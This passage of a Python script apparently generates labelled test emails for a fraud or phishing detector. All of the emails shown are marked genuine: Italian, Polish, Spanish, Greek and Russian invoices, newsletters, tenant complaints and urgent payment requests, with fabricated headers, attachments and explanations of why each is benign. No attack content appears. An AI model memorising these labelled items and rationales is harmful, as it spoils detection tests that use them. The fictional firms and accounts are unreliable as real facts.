  headers=["List-Unsubscribe: <https://a1b2c.emailsp.com/frontend/nl_unsubscribe.aspx?idc=51882&idn=77310>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: MailUp"],
  subject="Milano, uffici: assorbimento record nel terzo trimestre – la newsletter di oggi",
  html=newsletter("Monitorimmobiliare", "#b5121b", "Giovedì 26 novembre 2026",
                  "Buongiorno, ecco le notizie principali del mercato immobiliare italiano.",
                  [("Milano, uffici: assorbimento record nel terzo trimestre", "Il CBD e Porta Nuova trainano la domanda; canoni prime stabili a 750 euro/mq/anno.", "https://www.monitorimmobiliare.it/milano-uffici-q3-2026?utm_source=newsletter"),
                   ("Fondi immobiliari: raccolta in crescita nel 2026", "Gli operatori istituzionali tornano sul residenziale in affitto e sugli studentati.", "https://www.monitorimmobiliare.it/fondi-raccolta-2026?utm_source=newsletter"),
                   ("Catasto e IMU: le novità della legge di bilancio 2027", "Cosa cambia per i proprietari di immobili strumentali.", "https://www.monitorimmobiliare.it/imu-legge-bilancio-2027?utm_source=newsletter")],
                  ("Monitorimmobiliare · Milano<br>Ricevi questa newsletter perché ti sei iscritta con giulia.romano@example.com.", "Annulla iscrizione"),
                  "it", "https://a1b2c.emailsp.com/frontend/nl_unsubscribe.aspx?idc=51882&idn=77310"),
  what="Subscribed Italian real-estate news newsletter via MailUp.",
  why="Genuine opt-in bulk mail with List-Unsubscribe from an established ESP; relevant content.")

# ---------------------------------------------------------------- Polish --
PL_MX = ("mail.partner-logistik.pl", "mail.partner-logistik.pl", "79.96.171.44", "tls12")
M(kind=B, slug="partner-logistik-faktura-ksef", lang="pl", cs="iso-8859-2", cte="quoted-printable",
  frm=("Partner Logistik - Księgowość", "ksiegowosc@partner-logistik.pl"), to=[S["pl_acc"]],
  dt="2026-11-06 13:05:12", mx=PL_MX, client="thunderbird", msgid_domain="partner-logistik.pl",
  up=[U_sa("mail.partner-logistik.pl", "83.22.147.91", "public-gprs147091.centertel.pl" if False else "83.22.147.91.ipv4.supernova.orange.pl")],
  subject="Faktura FV/2026/11/0347 - Partner Logistik sp. z o.o.",
  text="""Szanowni Państwo,

w załączeniu przesyłamy wizualizację faktury VAT nr FV/2026/11/0347 z dnia 06.11.2026 r. za usługi magazynowania i relokacji mienia najemców w budynku przy Al. Jerozolimskich 181 (październik 2026).

Faktura została wystawiona w Krajowym Systemie e-Faktur, numer KSeF: %s-20261106-8F3A2C1B7D4E-9A.

Kwota do zapłaty: 23 418,60 zł
Termin płatności: 06.12.2026 r.
Rachunek: %s (Bank Pekao S.A.) - rachunek widnieje w wykazie podatników VAT.

Z poważaniem
Ewa Kamińska
Dział Księgowości
Partner Logistik sp. z o.o.
ul. Annopol 4A, 03-236 Warszawa, NIP %s
""" % (PL_NIP_PL, fi(PL_GEN), PL_NIP_PL),
  atts=[pdf("FV_2026_11_0347.pdf", "Partner Logistik sp. z o.o. - Faktura VAT FV/2026/11/0347",
            ["Nabywca: Example Group Polska sp. z o.o., NIP " + PL_NIP_EXG, "Magazynowanie i relokacja mienia najemcow - 10/2026",
             "Do zaplaty: 23 418,60 PLN - termin 06.12.2026", "Rachunek: " + fi(PL_GEN), "Nr KSeF: %s-20261106-8F3A2C1B7D4E-9A" % PL_NIP_PL], "Partner Logistik", "Comarch ERP Optima", "20261106130000+01'00'")],
  what="Genuine invoice visualisation from Partner Logistik with KSeF number and the known Pekao account.",
  why="Genuine: correct domain and server (79.96.171.44) with a Polish client IP, KSeF reference, white-listed account – compare with attack/26 from the same server.")

M(kind=B, slug="partner-logistik-pilna-zaliczka", lang="pl", cs="windows-1250", cte="quoted-printable",
  frm=("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl"), to=[S["pl_pm"]], cc=[S["pl_acc"]],
  dt="2026-11-25 16:47:03", mx=PL_MX, client="outlook", msgid_domain="partner-logistik.pl",
  up=[U_sa("mail.partner-logistik.pl", "83.22.147.91", "83.22.147.91.ipv4.supernova.orange.pl", helo="TZ-NB-014")],
  subject="PILNE: potwierdzenie zlecenia relokacji najemcy z 4. piętra - sobota 28.11",
  text="""Pani Katarzyno,

potrzebujemy do jutra do 12:00 potwierdzenia zlecenia oraz zaliczki 30% (7 380,00 zł brutto) na przeprowadzkę najemcy z 4. piętra zgodnie z ofertą nr OF/2026/188. Bez tego nie zarezerwujemy ekip ani windy towarowej na sobotę 28.11 – kolejny wolny termin to dopiero 12.12.

Zaliczkę proszę przelać na nasz stały rachunek w Pekao, ten sam co dotychczas (końcówka ...8901), tytułem „OF/2026/188”. Proforma w załączniku.

Gdyby były pytania, jestem pod telefonem: 602 417 883.

Pozdrawiam serdecznie
Tadeusz Zieliński
Dyrektor Operacyjny
Partner Logistik sp. z o.o.
""",
  atts=[pdf("Proforma_OF_2026_188.pdf", "Partner Logistik - Faktura proforma OF/2026/188",
            ["Relokacja najemcy - 4 pietro - 28.11.2026", "Zaliczka 30%: 7 380,00 PLN brutto", "Rachunek: " + fi(PL_GEN)], "T. Zielinski", when="20261125164000+01'00'")],
  what="Genuine urgent request for a 30% advance payment from the known Partner Logistik contact, to the unchanged account.",
  why="Genuine: real domain and server, referenced offer, explicitly the same Pekao account, phone number for questions – urgency alone is not fraud.")

M(kind=B, slug="otodom-reset-hasla", lang="pl", cs="utf-8", cte="base64",
  frm=("Otodom", "no-reply@otodom.pl"), to=[S["pl_pm"]],
  rp="0102019a1f2e3d4c-7b8a9c0d-1e2f-4a3b-8c5d-6e7f8a9b0c1d-000000@eu-west-1.amazonses.com",
  dt="2026-11-03 12:12:26", mx=("a7-22.smtp-out.eu-west-1.amazonses.com", "a7-22.smtp-out.eu-west-1.amazonses.com", "54.240.7.22"), client="ses",
  subject="Zresetuj hasło do konta Otodom",
  html=notif("Otodom", "#2e1a5e",
             "<p>Cześć,</p><p>otrzymaliśmy prośbę o zresetowanie hasła do konta powiązanego z adresem <b>katarzyna.nowak@example.com</b>.</p>"
             "<p>Kliknij przycisk poniżej, aby ustawić nowe hasło. Link jest ważny przez 24 godziny.</p>",
             ("Ustaw nowe hasło", "https://www.otodom.pl/konto/haslo/reset?token=c41f7a90e2b3"),
             "Jeśli to nie Ty, zignoruj tę wiadomość – Twoje hasło pozostanie bez zmian.<br>Grupa OLX sp. z o.o., ul. Królowej Jadwigi 43, 61-872 Poznań", "pl"),
  what="Genuine Otodom password reset requested by the Warsaw property manager.",
  why="Genuine transactional mail: otodom.pl domain via Amazon SES, link on www.otodom.pl, 'ignore if not you'.")

M(kind=B, slug="najemca-awaria-windy-interia", lang="pl", cs="iso-8859-2", cte="base64",
  frm=("Agnieszka Wróbel", "a.wrobel@interia.pl"), to=[S["pl_pm"]],
  dt="2026-11-30 08:51:19", mx=("smtpo80.poczta.interia.pl", "smtpo80.poczta.interia.pl", "217.74.67.80"), client="generic", msgid_domain="interia.pl",
  headers=["X-Mailer: Interia Poczta"],
  subject="Awaria windy - budynek B, ul. Postępu 14 - trzeci raz w tym miesiącu",
  text="""Dzień dobry Pani Katarzyno,

piszę w imieniu firmy Medicor sp. z o.o., najemcy 3. piętra w budynku B przy ul. Postępu 14.

Winda osobowa w budynku B nie działa od piątku rano - to już trzecia awaria w listopadzie. Zatrudniamy osobę poruszającą się na wózku, która od piątku nie może dostać się do biura, a nasi pacjenci z poradni na 3. piętrze muszą korzystać ze schodów.

Prosimy o:
1) pilną naprawę i informację o przewidywanym terminie,
2) protokół z ostatniego przeglądu UDT,
3) informację, czy za okres niesprawności windy przewidziana jest obniżka opłat eksploatacyjnych.

Proszę o kontakt telefoniczny: 604 221 905.

Z poważaniem
Agnieszka Wróbel
Office Manager, Medicor sp. z o.o.
""",
  what="Commercial tenant's complaint about a broken lift, from an Interia free-mail address.",
  why="Genuine complaint with concrete building data; free mailer but no links, attachments or payment data.")

M(kind=B, slug="kolega-prywatny-gmail-l4", lang="pl", cs="utf-8", cte="quoted-printable",
  frm=("Piotr Wiśniewski", "piotr.wisniewski1987@gmail.com"), to=[S["pay"]], cc=[S["pl_pm"]],
  dt="2026-11-24 07:58:44", mx=GM("lf1-f44", "209.85.167.44"), client="gmail", auto_html="gmail",
  up=[U_gmail("mail-lf1-f44.google.com")],
  subject="Zwolnienie lekarskie – Piotr Wiśniewski (z prywatnej skrzynki)",
  text="""Dzień dobry Pani Nino,

piszę z prywatnego maila, bo od wczoraj jestem na zwolnieniu lekarskim (e-ZLA od 23.11 do 04.12 powinno być już widoczne na PUE ZUS), a służbowy laptop został w biurze.

Kasia wie, które sprawy są pilne; zamknięcie listopada dokończę po powrocie, a płatności w tym tygodniu przejmuje zgodnie z zastępstwem Marek z Frankfurtu.

Proszę tylko dać znać, czy do listy płac za listopad potrzebne jest jeszcze coś ode mnie. Na ten adres proszę nie wysyłać żadnych danych płacowych – wystarczy krótka informacja, resztę sprawdzę po powrocie w systemie.

Pozdrawiam
Piotr Wiśniewski
""",
  what="Polish accountant on sick leave writes to payroll from his private Gmail.",
  why="Genuine: plausible reason, no change of bank details or request for data (explicitly asks not to send payroll data privately), Cc to his manager.")

# --------------------------------------------------------------- Spanish --
M(kind=B, slug="mantenimientos-castilla-factura", lang="es", cs="iso-8859-15", cte="quoted-printable",
  frm=("Mantenimientos Integrales Castilla S.L.", "facturacion@mantenimientoscastilla.es"), to=[S["es_acc"]],
  dt="2026-11-04 10:02:48", mx=("smtp.mantenimientoscastilla.es", "smtp-out.mantenimientoscastilla.es", "217.76.146.62", "tls12"), client="outlook", msgid_domain="mantenimientoscastilla.es",
  up=[U_sa("smtp.mantenimientoscastilla.es", "83.59.210.14", "14.red-83-59-210.dynamicip.rima-tde.net", helo="ADMIN-PC02")],
  subject="Factura F-2026-0934 - mantenimiento preventivo climatización octubre - C/ Alcalá 265",
  text="""Buenos días:

Adjuntamos la factura F-2026-0934 correspondiente al mantenimiento preventivo de las instalaciones de climatización del edificio de la calle Alcalá, 265 durante el mes de octubre de 2026, según contrato de mantenimiento n.º 2024/117.

Base imponible: 3.872,00 €
IVA 21 %%: 813,12 €
Total: 4.685,12 €
Vencimiento: 30 días fecha factura

Forma de pago: transferencia a la cuenta habitual
%s (Banco Sabadell)

Quedamos a su disposición para cualquier aclaración.

Un saludo,

Departamento de Administración
Mantenimientos Integrales Castilla S.L. - CIF %s
C/ Francisco Silvela 42, 28028 Madrid
""" % (fi(ES_MANT), ES_CIF_MAN),
  atts=[pdf("Factura_F-2026-0934.pdf", "Mantenimientos Integrales Castilla S.L. - Factura F-2026-0934",
            ["Cliente: Example Group Iberia S.L. - CIF " + ES_CIF_EXG, "Mantenimiento preventivo climatizacion - octubre 2026",
             "Base 3.872,00 EUR  IVA 21% 813,12 EUR  Total 4.685,12 EUR", "IBAN " + fi(ES_MANT)], "Administracion", when="20261104095500+01'00'")],
  what="Genuine monthly maintenance invoice from the Madrid HVAC contractor.",
  why="Genuine: own domain and server, contract reference, 'cuenta habitual', valid CIF and IBAN.")

M(kind=B, slug="inquilina-fianza-hotmail", lang="es", cs="utf-8", cte="quoted-printable",
  frm=("Lucía Herrero Sanz", "lucia.herrero.sanz@hotmail.es"), to=[S["es_om"]],
  dt="2026-11-14 11:20:38", mx=OUTLOOKCOM, client="outlookcom", auto_html="outlookcom", up=[U_exo()],
  subject="Devolución de la fianza – piso C/ Ferraz 52, 3.º B – sin respuesta",
  text="""Buenos días, Carmen:

Hace ya 45 días que entregué las llaves del piso de la calle Ferraz, 52, 3.º B (fue el 30 de septiembre, firmamos el acta de entrega con su compañero) y todavía no he recibido ni la devolución de la fianza (dos mensualidades, 2.400 €) ni ningún escrito con la liquidación de posibles desperfectos.

Le recuerdo que, según el artículo 36.4 de la Ley de Arrendamientos Urbanos, la fianza debe devolverse en el plazo de un mes desde la entrega de llaves y, a partir de entonces, devenga el interés legal.

Le ruego que me la transfieran a la misma cuenta desde la que he pagado el alquiler todos estos años, o que me indiquen por escrito los motivos de la retención. Si no recibo respuesta antes del 25 de noviembre, presentaré una reclamación ante la Agencia de Vivienda Social de la Comunidad de Madrid, donde está depositada la fianza.

Un saludo,
Lucía Herrero Sanz
""",
  what="Former residential tenant complains about an unreturned security deposit (fianza), from a Hotmail address.",
  why="Genuine complaint: legal reference, asks for repayment to the account already on file (no new bank details), no links.")

M(kind=B, slug="idealista-nuevo-contacto", lang="es", cs="utf-8", cte="base64",
  frm=("idealista", "noreply@idealista.com"), to=[S["es_om"]],
  rp="bounces-es-1f3a9c@mail.idealista.com",
  dt="2026-11-21 19:44:10", mx=("mail-out31.idealista.com", "mail-out31.idealista.com", "185.64.116.31"), client="bulk", msgid_domain="mail.idealista.com",
  subject="Nuevo mensaje sobre tu anuncio: oficina en alquiler en calle de Alcalá, 265",
  html=notif("idealista", "#e1f000",
             "<p>Hola, Carmen:</p><p><b>Alberto Ruiz</b> está interesado en tu anuncio <b>Oficina en alquiler en calle de Alcalá, 265, Madrid</b> (ref. 108447213).</p>"
             "<p style='background:#f5f5f5;padding:12px'>«Buenas tardes, somos una consultora de 12 personas y buscamos oficina a partir de febrero. ¿Sería posible visitarla la semana que viene? ¿Los gastos de comunidad están incluidos?»</p>"
             "<p>Teléfono: 612 345 781 · Email: alberto.ruiz@consultoria-arc.es</p>",
             ("Responder desde idealista/tools", "https://www.idealista.com/es/tools/mensajes/108447213"),
             "idealista S.A.U. · Plaza de las Cortes 2, 28014 Madrid<br>Recibes este correo porque tienes anuncios publicados en idealista.", "es",
             '<span style="color:#222">idealista</span>').replace("color:#ffffff;font-weight:bold", "color:#222222;font-weight:bold"),
  what="Genuine idealista lead notification for an office listing.",
  why="Genuine: idealista.com domain and mail servers, link on www.idealista.com, ordinary enquiry.")

M(kind=B, slug="notaria-provision-fondos", lang="es", cs="iso-8859-1", cte="base64",
  frm=("Notaría Álvaro Sastre Molina", "provisiones@notariasastre.es"), to=[S["es_acc"]], cc=[S["es_om"]],
  dt="2026-11-26 12:37:55", mx=("smtp.notariasastre.es", "mail.notariasastre.es", "195.77.225.90", "tls12"), client="outlook", msgid_domain="notariasastre.es",
  up=[U_sa("smtp.notariasastre.es", "195.77.225.91", "195.77.225.91.static.user.ono.com", helo="NOT-RECEP01")],
  subject="Provisión de fondos - compraventa local C/ Alcalá 265 - firma 3 de diciembre",
  text="""Estimado Sr. Martín:

En relación con la escritura de compraventa del local comercial sito en la calle Alcalá, 265, planta baja, cuya firma está prevista para el jueves 3 de diciembre a las 10:30 horas en esta Notaría, le remitimos el detalle de la provisión de fondos:

Aranceles notariales y copias: 2.140,00 euros
Inscripción en el Registro de la Propiedad n.º 23 de Madrid: 1.310,00 euros
Gestión y liquidación de impuestos: 3.400,00 euros
Total provisión: 6.850,00 euros

Rogamos realicen la transferencia antes del martes 1 de diciembre a la cuenta de la Notaría en Banco Santander, %s, indicando como concepto "PROV 2211/2026".

Por motivos de seguridad, esta Notaría nunca comunica cambios de cuenta por correo electrónico. Ante cualquier duda, llámenos al 91 435 27 80.

Atentamente,

Marta Iglesias
Oficial de la Notaría de D. Álvaro Sastre Molina
C/ Velázquez 57, 28001 Madrid
""" % fi(ES_NOTARY),
  what="Genuine notary request for an advance of fees before a signing, with the notary's IBAN and deadline.",
  why="Genuine: notary's own domain/server, amounts typical for notary/registry/tax handling, security note and phone number – urgent payment request that must not be blocked.")

M(kind=B, slug="limpiezas-brillo-cambio-cuenta-genuino", lang="es", cs="iso-8859-15", cte="quoted-printable",
  frm=("Limpiezas Brillo Madrid - Administración", "administracion@limpiezasbrillo.es"), to=[S["es_acc"]],
  dt="2026-11-18 10:55:30", mx=("smtp-out.limpiezasbrillo.es", "smtp-out.limpiezasbrillo.es", "82.223.77.14", "tls12"), client="outlook", msgid_domain="limpiezasbrillo.es",
  up=[U_sa("smtp-out.limpiezasbrillo.es", "88.6.34.201", "201.red-88-6-34.staticip.rima-tde.net", helo="ADMINISTRACION")],
  subject="Comunicación de cambio de cuenta bancaria a partir del 1 de enero de 2027",
  text="""Estimado cliente:

Le comunicamos que, a partir del 1 de enero de 2027, Limpiezas Brillo Madrid S.L. (CIF %s) centralizará sus cobros en una nueva cuenta:

BBVA - %s

Hasta el 31 de diciembre de 2026 sigan utilizando, por favor, la cuenta actual de CaixaBank (%s), incluidas las facturas de noviembre y diciembre.

Adjuntamos el certificado de titularidad emitido por BBVA y la carta firmada por nuestro administrador. Como medida de seguridad, les rogamos que confirmen este cambio llamando a nuestro número habitual (91 527 44 10) y preguntando por Marta Gil. En ningún caso les pediremos por correo que adelanten pagos o que abonen facturas pendientes en la nueva cuenta.

Gracias por su colaboración.

Un cordial saludo,
Marta Gil
Administración
Limpiezas Brillo Madrid S.L.
""" % (ES_CIF_BRI, fi(ES_BRILLO_N), fi(ES_BRILLO_O)),
  atts=[pdf("Certificado_titularidad_BBVA.pdf", "BBVA - Certificado de titularidad de cuenta",
            ["Titular: Limpiezas Brillo Madrid S.L. - CIF " + ES_CIF_BRI, "IBAN " + fi(ES_BRILLO_N), "Madrid, 12 de noviembre de 2026"], "BBVA", when="20261112100000+01'00'"),
        pdf("Carta_cambio_cuenta_firmada.pdf", "Limpiezas Brillo Madrid S.L. - Cambio de cuenta",
            ["A partir del 01/01/2027: " + fi(ES_BRILLO_N), "Hasta el 31/12/2026: " + fi(ES_BRILLO_O), "Fdo.: Jose Ramon Gil, Administrador"], "Administracion", when="20261117120000+01'00'")],
  what="Genuine bank-account change by the Madrid cleaning contractor, effective in the future, with bank ownership certificate and phone verification.",
  why="Genuine: own domain and server, domestic bank, future effective date, old account valid for open invoices, explicit verification path.")

# ----------------------------------------------------------------- Greek --
M(kind=B, slug="technoservice-timologio-anelkystires", lang="el", cs="iso-8859-7", cte="quoted-printable",
  frm=("Τεχνοσέρβις Αθηνών Α.Ε. - Λογιστήριο", "logistirio@technoservice-athens.gr"), to=[S["gr_acc"]],
  dt="2026-11-04 13:10:44", tz="+0200", mx=("mail.technoservice-athens.gr", "mail.technoservice-athens.gr", "94.70.112.58", "tls12"), client="zimbra", msgid_domain="technoservice-athens.gr",
  subject="Τιμολόγιο Παροχής Υπηρεσιών ΤΠΥ 1521 - Συντήρηση ανελκυστήρων Οκτωβρίου",
  text="""Αξιότιμοι κύριοι,

σας αποστέλλουμε συνημμένα το τιμολόγιο ΤΠΥ 1521/04-11-2026 για τη μηνιαία συντήρηση των ανελκυστήρων και του συστήματος κλιματισμού στο κτίριο της Λεωφ. Κηφισίας 124, Μαρούσι, για τον μήνα Οκτώβριο.

Καθαρή αξία: 4.000,00 ευρώ
ΦΠΑ 24%%: 960,00 ευρώ
Σύνολο: 4.960,00 ευρώ

Το τιμολόγιο έχει διαβιβαστεί στην πλατφόρμα myDATA (ΜΑΡΚ 400001987654321).

Η εξόφληση γίνεται ως συνήθως στον λογαριασμό μας στην Τράπεζα Πειραιώς:
%s

Με εκτίμηση,
Λογιστήριο
Τεχνοσέρβις Αθηνών Α.Ε. - ΑΦΜ %s
""" % (fi(GR_TECH), GR_AFM_TECH),
  atts=[pdf("Τιμολόγιο_ΤΠΥ_1521.pdf", "Technoservice Athinon A.E. - TPY 1521/04-11-2026",
            ["Pelatis: Example Group Hellas - AFM " + GR_AFM_EXG, "Syntirisi anelkystiron kai HVAC - Oktovrios 2026",
             "Kathari axia 4.000,00 EUR  FPA 24% 960,00 EUR  Synolo 4.960,00 EUR", "IBAN " + fi(GR_TECH), "MARK 400001987654321"], "Logistirio", "SoftOne ERP", "20261104130500+02'00'")],
  what="Genuine monthly invoice from the Athens lift/HVAC contractor, myDATA MARK number, known Piraeus account, Greek attachment file name (RFC 2231).",
  why="Genuine: correct .gr domain and Greek ISP server, myDATA reference, unchanged account.")

M(kind=B, slug="misthotis-parapono-klimatismos", lang="el", cs="windows-1253", cte="base64",
  frm=("Κωνσταντίνος Δημητρίου", "k.dimitriou@otenet.gr"), to=[S["gr_pm"]],
  dt="2026-11-19 09:45:26", tz="+0200", mx=("mailout.otenet.gr", "mailout.otenet.gr", "83.235.69.12", "tls12"), client="outlook", msgid_domain="otenet.gr",
  up=[U_sa("mailout.otenet.gr", "79.129.44.180", "adsl-180.79.129.44.otenet.gr", helo="KD-LAPTOP")],
  subject="Παράπονο – Κλιματισμός 5ου ορόφου εκτός λειτουργίας για δεύτερη εβδομάδα",
  text="""Αγαπητή κυρία Παπαδοπούλου,

σας γράφω ως υπεύθυνος γραφείου της εταιρείας μας, μισθώτριας του 5ου ορόφου στο κτίριο της Λεωφ. Κηφισίας 124.

Ο κεντρικός κλιματισμός του ορόφου δεν λειτουργεί εδώ και δέκα ημέρες. Το θέμα το αναφέραμε τηλεφωνικά στις 9/11 και με email στις 12/11, αλλά μέχρι σήμερα δεν έχει έρθει τεχνικός. Οι εργαζόμενοι δουλεύουν με φορητά θερμαντικά σώματα, κάτι που δεν είναι ούτε ασφαλές ούτε αποδεκτό.

Σύμφωνα με το άρθρο 9 του μισθωτηρίου, η συντήρηση των κοινόχρηστων Η/Μ εγκαταστάσεων βαραίνει τον εκμισθωτή. Παρακαλώ να μας ενημερώσετε άμεσα για την ημερομηνία επισκευής. Σε αντίθετη περίπτωση θα αναγκαστούμε να αναθέσουμε εμείς την επισκευή και να συμψηφίσουμε το κόστος με το μίσθωμα.

Με εκτίμηση,
Κωνσταντίνος Δημητρίου
Υπεύθυνος Γραφείου
Τηλ. 210 6124 380
""",
  what="Commercial tenant's complaint about failed HVAC, threatening set-off against rent.",
  why="Genuine complaint from an ISP address with lease references; no links, attachments or payment requests.")

M(kind=B, slug="esoteriko-epeigon-plirwmi", lang="el", cs="utf-8", cte="quoted-printable",
  frm=("Νίκος Γεωργίου", S["gr_acc"][1]), to=[("Ελένη Παπαδοπούλου", S["gr_pm"][1])],
  dt="2026-11-27 10:05:37", tz="+0200", mx=INTERNAL, client="exchange-int", up=[U_int()], auto_html="exo",
  subject="Επείγον: έγκριση πληρωμών πριν το κλείσιμο του μήνα",
  text="""Ελένη, καλημέρα.

Χρειάζομαι σήμερα την έγκρισή σου στο e-banking για δύο πληρωμές, γιατί την Δευτέρα κλείνει ο μήνας και η Φρανκφούρτη θέλει τα στοιχεία μέχρι την Τρίτη:

1. ΤΠΥ 1521 της Τεχνοσέρβις (συντήρηση ανελκυστήρων Οκτωβρίου) – 4.960,00 €, στον γνωστό λογαριασμό της Πειραιώς. Για την Τεχνοσέρβις ο λογαριασμός δεν έχει αλλάξει, το έλεγξα με τον κ. Αντωνίου τηλεφωνικά.
2. Κοινόχρηστα Νοεμβρίου Μαρουσίου – 2.145,30 €, σύμφωνα με την κατάσταση του διαχειριστή.

Τα παραστατικά είναι στον φάκελο Λογιστήριο/Πληρωμές/2026-11.

Ευχαριστώ,
Νίκος
""",
  what="Internal urgent payment-approval request in Greek from local accounting to the property manager (internal relay).",
  why="Genuine internal mail via mail-int01; payments to known accounts, 4-eyes approval in e-banking, documents in the file share.")

M(kind=B, slug="newsletter-enosi-diaxeiristwn", lang="el", cs="utf-8", cte="base64",
  frm=("Ένωση Διαχειριστών Ακινήτων Ελλάδος", "newsletter@edae.gr"), to=[S["gr_pm"]],
  rp="bounce-mc.us14_90112734.3381-eleni.papadopoulou=example.com@mail77.suw131.mcdlv.net",
  dt="2026-11-11 08:00:04", tz="+0200", mx=("mail77.suw131.mcdlv.net", "mail77.suw131.mcdlv.net", "198.2.131.77"), client="mailchimp",
  headers=["List-Unsubscribe: <https://edae.us14.list-manage.com/unsubscribe?u=90112734&id=3381>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"],
  subject="Newsletter Νοεμβρίου: Ηλεκτρονική Ταυτότητα Κτιρίου, ενεργειακή αναβάθμιση και νέα νομολογία",
  html=newsletter("Ένωση Διαχειριστών Ακινήτων Ελλάδος", "#1a5276", "Newsletter Νοεμβρίου 2026",
                  "Αγαπητά μέλη, παρακάτω θα βρείτε τα σημαντικότερα νέα του μήνα για τη διαχείριση ακινήτων.",
                  [("Ηλεκτρονική Ταυτότητα Κτιρίου: νέες προθεσμίες για μεταβιβάσεις", "Τι αλλάζει από 1/1/2027 για τις μισθώσεις επαγγελματικών ακινήτων.", "https://www.edae.gr/news/ilektroniki-taftotita-2027"),
                   ("Πρόγραμμα ενεργειακής αναβάθμισης γραφείων", "Οι προϋποθέσεις επιλεξιμότητας και τα ποσοστά επιδότησης.", "https://www.edae.gr/news/energeiaki-anavathmisi-grafeion"),
                   ("Σεμινάριο: Κοινόχρηστα και μισθώσεις – 10 Δεκεμβρίου", "Διαδικτυακό σεμινάριο για μέλη, δωρεάν συμμετοχή.", "https://www.edae.gr/events/seminario-koinoxrista")],
                  ("Ένωση Διαχειριστών Ακινήτων Ελλάδος · Αθήνα<br>Λαμβάνετε αυτό το μήνυμα ως εγγεγραμμένο μέλος.", "Διαγραφή από τη λίστα"),
                  "el", "https://edae.us14.list-manage.com/unsubscribe?u=90112734&id=3381"),
  what="Subscribed Greek property-management association newsletter via Mailchimp.",
  why="Genuine opt-in newsletter, ESP infrastructure and unsubscribe headers, member content.")

# --------------------------------------------------------------- Russian --
M(kind=B, slug="stroyexp-schet-na-oplatu", lang="ru", cs="windows-1251", cte="quoted-printable",
  frm=("ООО «СтройЭксплуатация» – бухгалтерия", "buh@stroyexp.ru"), to=[S["ru_acc"]],
  dt="2026-11-02 11:25:16", tz="+0300", mx=("forward502a.mail.yandex.net", "forward502a.mail.yandex.net", "178.154.239.82"), client="thebat", msgid_domain="stroyexp.ru",
  up=[U_sa("mail-nwsmtp-smtp-production-main-59.vla.yp-c.yandex.net", "95.165.28.117", "95-165-28-117.static.spd-mgts.ru", helo="BUH-PC", tzoff="+0300", soft="smtp/Yandex")],
  subject="Счёт № 1098 от 02.11.2026 на оплату технического обслуживания (октябрь)",
  text="""Добрый день, Ольга!

Направляем счёт № 1098 от 02.11.2026 за техническое обслуживание инженерных систем бизнес-центра по адресу ул. Лесная, 43, за октябрь 2026 г. по договору № ТО-14/2024.

Сумма: 486 000,00 руб., в т. ч. НДС 22%% – 87 639,34 руб.

Реквизиты для оплаты (без изменений):
ООО «СтройЭксплуатация»
ИНН %s, КПП 771401001
р/с %s
ПАО Сбербанк, БИК %s
к/с %s

УПД направим через ЭДО (Контур.Диадок) сегодня.

С уважением,
Марина Климова
главный бухгалтер
ООО «СтройЭксплуатация»
тел. +7 495 788-41-20
""" % (RU_INN_GEN, RU_RS_GEN, RU_BIK_SBER, RU_KS_SBER),
  atts=[pdf("Schet_1098_ot_02.11.2026.pdf", "Schet na oplatu No. 1098 ot 02.11.2026",
            ["Postavshchik: OOO StroyEkspluatatsiya, INN " + RU_INN_GEN + ", KPP 771401001",
             "r/s " + RU_RS_GEN + ", PAO Sberbank, BIK " + RU_BIK_SBER, "Pokupatel: OOO Example Group Rus, INN " + RU_INN_EXG,
             "Tekhnicheskoe obsluzhivanie, oktyabr 2026: 486 000,00 rub., v t.ch. NDS 22% 87 639,34"], "buh", "1C:Enterprise 8.3", "20261102112000+03'00'")],
  what="Genuine monthly invoice (счёт) from the Moscow maintenance contractor with valid INN/BIK/account keys, UPD via EDO, VAT 22% (rate from 2026).",
  why="Genuine: contractor's real domain on Yandex 360, The Bat! client, unchanged Sberbank details, contract reference.")

M(kind=B, slug="arendator-zhaloba-koi8", lang="ru", cs="koi8-r", cte="quoted-printable",
  frm=("Сергей Николаевич Кузнецов", "kuznetsov.sn@yandex.ru"), to=[S["ru_head"]],
  dt="2026-11-17 10:50:08", tz="+0300", mx=("forward101b.mail.yandex.net", "forward101b.mail.yandex.net", "178.154.239.148"), client="thebat", msgid_domain="yandex.ru",
  up=[U_sa("mail-nwsmtp-smtp-production-main-12.iva.yp-c.yandex.net", "176.59.41.210", "176.59.41.210", helo="KUZNETSOV", tzoff="+0300", soft="smtp/Yandex")],
  subject="Жалоба: не работает отопление и нет уборки в офисе 512",
  text="""Уважаемый Дмитрий Александрович!

Обращаюсь к Вам как генеральный директор ООО "Техпромконсалт", арендатора офиса 512 в бизнес-центре на ул. Лесной, 43.

С 10 ноября в нашем офисе практически не работает отопление: температура в помещениях утром не превышает 16 градусов. Заявки в диспетчерскую подавались 10, 12 и 14 ноября (номера заявок 3381, 3402, 3417), однако никаких работ до сих пор не проведено.

Кроме того, с начала месяца в офисе не производится ежедневная уборка, предусмотренная пунктом 4.3 договора аренды.

Прошу в срок до 20 ноября устранить неисправность системы отопления и возобновить уборку. В противном случае мы будем вынуждены приостановить оплату эксплуатационного платежа за ноябрь до устранения нарушений.

С уважением,
С. Н. Кузнецов
генеральный директор ООО "Техпромконсалт"
тел. +7 916 204-33-81
""",
  what="Tenant CEO's formal complaint (heating, cleaning) in KOI8-R from a Yandex mailbox.",
  why="Genuine complaint with dispatch ticket numbers and lease clauses; private free-mail address is normal for small tenants.")

M(kind=B, slug="vnutrenniy-srochno-arenda-zemli", lang="ru", cs="utf-8", cte="base64",
  frm=("Ольга Смирнова", S["ru_acc"][1]), to=[("Дмитрий Волков", S["ru_head"][1])],
  dt="2026-11-27 12:30:41", tz="+0300", mx=INTERNAL, client="exchange-int", up=[U_int()], auto_html="exo",
  subject="Срочно: арендная плата за землю до 30.11 – нужна вторая подпись",
  text="""Дмитрий, добрый день!

Департамент городского имущества выставил уведомление по арендной плате за земельный участок под БЦ на Лесной за 4 квартал – 1 284 600,00 руб., срок оплаты до 30.11 (понедельник).

Платёжку я уже сформировала в банк-клиенте. Реквизиты сверила с договором аренды земли и с прошлым платежом – не менялись.

Нужна твоя вторая подпись сегодня до 16:00, иначе банк проведёт платёж только в понедельник, впритык к сроку. Уведомление ДГИ лежит в общей папке: Бухгалтерия / Аренда земли / 2026.

Спасибо!
Ольга
""",
  what="Internal urgent request from Moscow accounting to the office head for a second signature on a land-lease payment.",
  why="Genuine internal mail via mail-int01: payment prepared in the bank client with verified recipient, dual control, reference to file share.")

